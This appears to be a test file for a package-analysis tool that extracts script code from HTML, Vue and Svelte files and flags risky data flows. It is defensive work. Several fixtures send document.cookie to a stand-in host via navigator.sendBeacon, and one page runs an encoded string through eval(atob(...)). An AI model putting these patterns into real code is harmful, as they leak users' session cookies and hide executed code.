import assert from 'node:assert/strict';
import fc from 'fast-check';
import { analysePackage } from '../../../../server/src/artifacts/analysis/analyse.js';
import { plainCode } from '../../../../server/src/artifacts/analysis/code/package/parse.js';
import { outlineOf } from '../../../../server/src/artifacts/analysis/code/package/script-outline.js';
import { codeInMarkup, isMarkup } from '../../../../server/src/artifacts/analysis/markup/markup-code.js';
import type { ScriptLanguage } from '../../../../server/src/artifacts/analysis/markup/pieces.js';
import { inEnglish } from '../../../../server/src/model/index.js';
import { packageOf } from '../../../support/artifacts.js';

const read = (text: string, language: ScriptLanguage = 'js'): string | undefined => {
  try {
    return plainCode(text, language);
  } catch {
    return undefined;
  }
};
const code = (text: string, path = 'index.html'): string => codeInMarkup(path, text, { read, outlineOf }).code;
/** As a reader sees it: without what is blank. */
const dense = (text: string, path?: string): string => code(text, path).replace(/\s+/g, ' ').trim();

describe('the code of a page', () => {
  const pages: readonly (readonly [what: string, page: string, code: string])[] = [
    ['scripts', '<p>a</p><script>f()</script><script type="module">g()</script>', ';f() ;g()'],
    ['scripts behind a comment that no line ends', '<script>f() // x</script><script>g()</script>', ';f() // x ;g()'],
    ['event handlers', `<img src=x onerror="f('a')"><a onclick='g()'>`, "{f('a')} {g()}"],
    ['handlers with entities', '<body onload="&#102;&lpar;&rpar;">', '{f()}'],
    ['addresses that are code', '<a href="javascript:f()">x</a><iframe src=" javascript:g()">', '{f()} {g()}'],
    ['pictures', '<svg><script><![CDATA[ f() ]]></script><svg:script>g()</svg:script></svg>', '; f() ;g()'],
    [
      'components in TypeScript',
      '<template><p/></template>\n<script setup lang="ts">\nf(1 as number)\n</script>',
      '; f(1 )',
    ],
    [
      'components with elements in their script',
      '<script lang="tsx">f(<a>{1 as number}</a>)</script>',
      ';f(<a>{1 }</a>)',
    ],
    ['components that say TypeScript as a type', '<script type="text/typescript">f(1 as number)</script>', ';f(1 )'],
    ['a script that is never closed', '<script>f()', ';f()'],
    ['a script behind a lone quote', `<p don't><script>f()</script>`, ';f()'],
  ];
  for (const [what, page, expected] of pages)
    it(`is that of ${what}`, () => {
      assert.equal(dense(page), expected);
      assert.ok(read(code(page)) !== undefined);
    });

  it('is none of data, of templates, of comments, and of scripts from elsewhere', () => {
    const pages = [
      '<script type="application/json">{"a": 1}</script>',
      '<script>var x = {{ data }};</script>',
      '<!-- <script>f()</script> -->',
      '<script src="https://cdn.example/a.js"></script><a href="https://x.example" title="onload">',
    ];
    for (const page of pages) assert.equal(dense(page), '');
  });

  it('is in components none of what stands in braces', () => {
    for (const [path, page] of [
      [
        'a.svelte',
        '{@html `<script>${it}</script>`}{#if a <b}{/if}<p title={"<script>"} on:click={() => a > "\\"}"}/>',
      ],
      ['a.vue', '<p>{{ a <b ? "<script>f()</script>" : c }}</p>'],
      ['a.svelte', `<p class="{a ? "x>" : 'y'}">{/* don't */ a.replace(/\\/\\//g, '')}</p>`],
    ] as const)
      assert.equal(dense(`${page}<script>g()</script>`, path), ';g()');
  });

  it('is that behind braces which are never closed', () => {
    assert.equal(dense('{ <script>g()</script>', 'a.svelte'), ';g()');
    const started = Date.now();
    code('{"'.repeat(200_000), 'a.svelte');
    code('<p a="{'.repeat(100_000), 'a.svelte');
    assert.ok(Date.now() - started < 5000);
  });

  it('stays in its line and column', () => {
    const page = '<html>\n <script>\n  evil();</script>\n<p onclick="more()">';
    const lines = code(page).split('\n');
    assert.deepEqual([lines[2]?.indexOf('evil'), lines[3]?.indexOf('more')], [2, 12]);
  });

  it('leaves every line where it is, whatever the page is', () => {
    fc.assert(
      fc.property(fc.stringMatching(/^(?:<script>|<\/script>|<a on=""|>|x|\n|'|<!--){0,30}$/), (page) => {
        const before = page.split('\n').length;
        assert.ok(code(page).split('\n').length <= before);
      }),
    );
  });

  it('is code with as many lines, whatever the component is', () => {
    const bits = [
      ...[
        '<script>',
        '<script lang="ts">',
        '</script>',
        '\n',
        ' ',
        '{',
        '}',
        '"',
        "'",
        '`',
        '\\',
        '//',
        '/*',
        '<p ',
        '>',
        '/>',
        '=',
        'let a = 1;',
        'a',
      ],
      ...[
        '<input type="password" ',
        'bind:value={a}',
        'v-model="a"',
        'use:a={{\n}}',
        'on:input={(e) => a}',
        '@input="a"',
        'onclick="a()"',
      ],
    ];
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...bits), { maxLength: 40 }),
        fc.constantFrom('vue', 'svelte'),
        (some, kind) => {
          const component = some.join('');
          const found = code(component, `a.${kind}`);
          assert.ok(found.split('\n').length <= component.split('\n').length);
          assert.ok(read(found) !== undefined, found);
        },
      ),
      { numRuns: 2000 },
    );
  });

  it('is that of components, which are imported like modules', () => {
    const send = `await navigator.sendBeacon('https://collect.invalid', document.cookie as string);`;
    for (const [name, component] of [
      [
        'Button.vue',
        `<template><button @click="copy" /></template>\n<script setup lang="ts">\nimport { ref } from 'vue';\nconst props = defineProps<{ text: string }>();\nasync function copy(): Promise<void> { ${send} }\n</script>`,
      ],
      [
        'Button.svelte',
        `<script lang="ts">\nexport let text: string;\nasync function copy() { ${send} }\n</script>\n<button on:click={copy}>{text}</button>`,
      ],
    ] as const) {
      const { flows } = analysePackage(
        packageOf({
          'index.js': `import Button from './${name}';\nexport default { install: (app) => app.component('Button', Button) };`,
          [name]: component,
        }),
      );
      const seen = flows.map(({ source, sink, to }) => `${source}>${sink} ${to.file}`);
      assert.deepEqual(seen, [`page-storage>network ${name}`]);
    }
  });

  const gapsOf = (files: Readonly<Record<string, string>>): readonly (readonly string[])[] => {
    const { notAnalysed, incomplete, behaviours } = analysePackage(packageOf(files));
    const told = behaviours.filter(({ kind }) => kind === 'unreadable-code').length;
    assert.equal(told, notAnalysed.length + incomplete.length);
    return [
      ...notAnalysed.map(({ kind, file, detail }) => [kind, file, detail]),
      ...incomplete.map(({ file = '', reason }) => ['incomplete', file, inEnglish(reason)]),
    ];
  };

  it('is a gap where a script of a component cannot be read, as a file would be', () => {
    const broken = '<p/>\n<script>\nfetch(this is no code\n</script>';
    const problem = "[3:11-3:13]: Expected ')'";
    for (const name of ['lib/A.vue', 'lib/A.svelte']) {
      assert.deepEqual(gapsOf({ [name]: broken }), [['code-not-analysed', name, problem]]);
      const index = `export { default } from './${name}';`;
      assert.deepEqual(gapsOf({ 'index.js': index, [name]: broken }), [
        ['incomplete', name, `cannot be read as JavaScript (${problem})`],
      ]);
    }
  });

  it('is no gap where nobody would read it, or where it can do nothing', () => {
    const broken = 'fetch(this is no code';
    for (const [name, component] of [
      ['a.vue', `<script lang="coffee">\n${broken}\n</script>`],
      [
        'a.vue',
        `<template lang="pug">\ndiv(title="it's") don't\n</template>\n<script lang="ts">\nfetch(a as URL)\n</script>`,
      ],
      ['a.vue', `<script lang="tsx">\nfetch(<b>{a as string}</b>)\n</script>`],
      ['a.svelte', `<script type="application/ld+json">${broken}</script>`],
      ['a.svelte', `<svelte:head>{@html \`<script>${broken}</script>\`}</svelte:head>`],
      ['a.svelte', '<script>\nit can do nothing\n</script>'],
      ['a.html', `<script>${broken}</script>`],
    ] as const)
      assert.deepEqual(gapsOf({ [name]: component }), [], component);
  });

  it('is read as far as it can be where one of two scripts of a component cannot', () => {
    const send = "navigator.sendBeacon('https://collect.invalid', document.cookie)";
    const component = `<script context="module">fetch(no code</script>\n<script>\n${send}\n</script>`;
    const { flows, notAnalysed } = analysePackage(packageOf({ 'a.svelte': component }));
    assert.deepEqual([flows.map(({ to }) => to.line), notAnalysed.map(({ file }) => file)], [[3], ['a.svelte']]);
  });

  it('is analysed like a file of JavaScript that something calls', () => {
    const page = "<html>\n<script>\n eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKTs='));\n</script></html>";
    const { flows } = analysePackage(packageOf({ 'package.json': '{}', 'docs/index.html': page, 'a.svg': page }));
    assert.deepEqual(
      flows.map(({ source, sink, moment, to }) => [source, sink, moment, to.file, to.line]),
      [
        ['decoded', 'evaluated', 'call', 'docs/index.html', 3],
        ['decoded', 'evaluated', 'call', 'a.svg', 3],
      ],
    );
    assert.ok(isMarkup('a/INDEX.XHTML') && !isMarkup('a.html.js'));
  });
});
